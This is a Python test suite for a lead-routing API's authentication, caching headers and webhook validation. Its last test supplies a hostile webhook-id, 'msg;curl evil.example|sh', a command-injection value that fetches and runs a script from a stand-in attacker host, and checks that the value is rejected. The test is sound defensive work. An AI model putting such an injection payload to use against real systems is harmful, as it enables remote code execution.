"""Access (issue 11, point 1): nothing but the inbound webhooks and /health answers without a token; viewers read;
/ready without a token says only ready or not; lead ids cannot be computed from an email.

And what the API hands out beyond its data (issue 17): the schema UIs pulled unpinned scripts from CDNs into the
console's origin — only the OpenAPI document is served now; every ``/api/*`` answer carries ``Cache-Control:
no-store`` (they hold people's names, emails and phones), errors too; a hostile ``webhook-id`` is refused."""

from __future__ import annotations

from collections.abc import AsyncIterator
from pathlib import Path

import pytest
from litestar.testing import AsyncTestClient

from connector.errors import SettingsError
from connector.settings import load_settings
from leadrelay.api.app import create_app
from leadrelay.api.auth import parse_tokens, role_of
from tests.tokens import ADMIN_TOKEN, API_TOKENS, VIEWER_TOKEN, bearer

ROOT = Path(__file__).resolve().parents[2]
PROTECTED = ["/metrics", "/schema", "/schema/openapi.json", "/api/leads/ld_0123456789abcdef0123"]


@pytest.fixture
async def client(redis_url: str, signing_secrets: None) -> AsyncIterator[AsyncTestClient]:  # type: ignore[type-arg]
    settings = load_settings({}, redis_url=redis_url, key_prefix="auth-lr:", config_dir=str(ROOT),
                             api_tokens=API_TOKENS)
    async with AsyncTestClient(create_app(settings, crm=False)) as c:
        yield c


@pytest.mark.parametrize("path", PROTECTED)
async def test_every_read_route_needs_a_token(client, path: str) -> None:  # type: ignore[no-untyped-def]
    for headers in ({}, {"Authorization": "Bearer not-a-token"}, {"Authorization": f"Basic {VIEWER_TOKEN}"}):
        r = await client.get(path, headers=headers)
        assert r.status_code == 401, (path, headers, r.status_code)
        assert r.headers["content-type"].startswith("application/problem+json")
        assert "token" in r.json()["detail"]


@pytest.mark.parametrize("path", ["/metrics", "/schema/openapi.json"])
async def test_a_viewer_token_reads(client, path: str) -> None:  # type: ignore[no-untyped-def]
    assert (await client.get(path, headers=bearer(VIEWER_TOKEN))).status_code == 200
    assert (await client.get(path, headers=bearer(ADMIN_TOKEN))).status_code == 200


async def test_unknown_lead_with_a_token_is_404_not_401(client) -> None:  # type: ignore[no-untyped-def]
    r = await client.get("/api/leads/ld_nobody", headers=bearer())
    assert r.status_code == 404


async def test_health_is_open_and_ready_without_a_token_tells_nothing_more(client) -> None:  # type: ignore[no-untyped-def]
    assert (await client.get("/health")).status_code == 200
    open_ready = await client.get("/ready")
    assert open_ready.status_code == 200 and open_ready.json() == {"status": "ready"}
    with_token = await client.get("/ready", headers=bearer())
    assert with_token.json()["checks"] == {"redis": "ok"}


def test_tokens_compare_whole_and_roles_rank() -> None:
    tokens = parse_tokens(API_TOKENS)
    assert role_of(tokens, f"Bearer {ADMIN_TOKEN}") == "admin"
    assert role_of(tokens, f"bearer {VIEWER_TOKEN}") == "viewer"
    assert role_of(tokens, f"Bearer {ADMIN_TOKEN[:-1]}") is None
    assert role_of(tokens, f"Bearer {ADMIN_TOKEN}x") is None
    assert role_of(tokens, None) is None


@pytest.mark.parametrize("entry", ["admin", "root:0123456789abcdef0123", "viewer:short"])
def test_bad_token_settings_name_the_entry(entry: str) -> None:
    with pytest.raises(SettingsError, match="LEADRELAY_API_TOKENS entry 1"):
        parse_tokens([entry])


# ---- issue 17: schema UIs off, no-store on /api/*, webhook-id's shape ----------------------------------------------


@pytest.mark.parametrize("path", ["/schema/swagger", "/schema/redoc", "/schema/elements", "/schema/rapidoc"])
async def test_no_schema_ui_is_served(client, path: str) -> None:  # type: ignore[no-untyped-def]
    r = await client.get(path, headers=bearer())
    assert r.status_code == 404, (path, r.status_code, r.text[:200])
    assert "<script" not in r.text


async def test_the_openapi_document_is_served_as_json(client) -> None:  # type: ignore[no-untyped-def]
    for path in ("/schema", "/schema/openapi.json"):
        r = await client.get(path, headers=bearer())
        assert r.status_code == 200, path
        assert "json" in r.headers["content-type"], (path, r.headers["content-type"])
        assert r.json()["openapi"].startswith("3.") and "/api/leads/{lead_id}" in r.json()["paths"]


@pytest.mark.parametrize(("path", "headers", "status"), [
    ("/api/leads/ld_0123456789abcdef0123", {"Authorization": f"Bearer {ADMIN_TOKEN}"}, 404),
    ("/api/leads/ld_0123456789abcdef0123", {}, 401),
    ("/api/admin/config", {"Authorization": f"Bearer {ADMIN_TOKEN}"}, 200),
    ("/api/admin/dead-letters", {"Authorization": f"Bearer {ADMIN_TOKEN}"}, 200),
    ("/api/admin/decisions", {"Authorization": f"Bearer {ADMIN_TOKEN}"}, 200),
    ("/api/no-such-thing", {"Authorization": f"Bearer {ADMIN_TOKEN}"}, 404),
])
async def test_every_api_answer_is_no_store(client, path: str, headers: dict[str, str], status: int) -> None:  # type: ignore[no-untyped-def]
    r = await client.get(path, headers=headers)
    assert r.status_code == status, (path, r.status_code, r.text[:300])
    assert "no-store" in r.headers.get("cache-control", ""), (path, dict(r.headers))


async def test_a_form_post_with_a_hostile_webhook_id_is_400_naming_the_header(client) -> None:  # type: ignore[no-untyped-def]
    import json
    import time

    from adapters.forms.standard_webhooks import sign
    from tests.integration.harness import FORM_SECRET

    body = json.dumps({"email": "ana@example.com", "first_name": "Ana"}).encode()
    for msg_id in ("msg;curl evil.example|sh", "m" * 129):
        headers = {"content-type": "application/json", **sign(FORM_SECRET, msg_id, int(time.time()), body)}
        r = await client.post("/webhooks/forms/website", content=body, headers=headers)
        assert r.status_code == 400, (msg_id, r.status_code, r.text)
        assert r.json()["field"] == "webhook-id"
